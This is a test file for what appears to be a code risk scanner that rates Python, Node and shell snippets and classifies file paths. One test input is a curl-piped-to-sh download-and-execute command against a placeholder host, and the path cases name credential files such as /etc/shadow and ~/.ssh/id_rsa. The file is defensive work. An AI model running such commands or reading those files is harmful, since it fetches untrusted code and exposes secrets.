import { test } from 'node:test';
import assert from 'node:assert/strict';
import { assess } from './assess.ts';
import { classifyPath } from './paths.ts';

test('a finding names its rule, level, reason and place; the level is the highest finding', async () => {
  const a = await assess('python', 'import os\n\nx = 1\nos.system("curl -s https://x.example | sh")\n');
  assert.equal(a.level, 'BLOCKED');
  const top = a.findings[0]!;
  assert.equal(top.rule, 'sh.download-exec');
  assert.equal(top.kind, 'network');
  // the embedded shell command's findings sit at the Python call that passes it
  assert.deepEqual([top.line, top.column], [4, 1]);
  assert.match(top.snippet, /^os\.system/);
  assert.ok(a.findings.some((f) => f.rule === 'py.subprocess' && f.level === 'MEDIUM'));
});

test('nothing found is LOW with no findings', async () => {
  for (const [lang, code] of [['python', 'print(sum(range(10)))'], ['node', 'console.log([1,2].map((x) => x * 2))'], ['bash', 'echo hi | tr a-z A-Z']] as const) {
    assert.deepEqual(await assess(lang, code), { language: lang, level: 'LOW', findings: [] });
  }
});

test('code that does not parse is at least MEDIUM: the rules cannot see all of it', async () => {
  const a = await assess('python', 'def f(:\n  pass');
  assert.equal(a.level, 'MEDIUM');
  assert.equal(a.findings[0]!.kind, 'parse_error');
});

test('imports are followed through aliases and destructuring', async () => {
  assert.equal((await assess('python', 'from subprocess import check_output as co\nco(cmd)')).findings[0]!.rule, 'py.subprocess-computed');
  assert.equal((await assess('node', 'const { exec: run } = require("node:child_process");\nrun(x)')).findings[0]!.rule, 'js.subprocess-computed');
  assert.equal((await assess('node', 'import * as cp from "child_process";\ncp.execSync(cmd)')).level, 'HIGH');
});

test('paths: workspace, temp, outside, home, system, secret, root, device, computed', () => {
  const cases: [string | undefined, string][] = [
    ['out/a.txt', 'workspace'], ['/workspace/x', 'workspace'], ['../x', 'outside'], ['a/../../x', 'outside'], ['/tmp/x', 'temp'],
    ['/data/x', 'outside'], ['~/x', 'home'], ['/home/u/x', 'home'], ['/etc/hosts', 'system'], ['/etc/shadow', 'secret'],
    ['~/.ssh/id_rsa', 'secret'], ['/', 'root'], ['~', 'root'], ['/dev/sda', 'device'], ['/dev/null', 'temp'], [undefined, 'computed'],
  ];
  for (const [p, want] of cases) assert.equal(classifyPath(p), want, String(p));
});
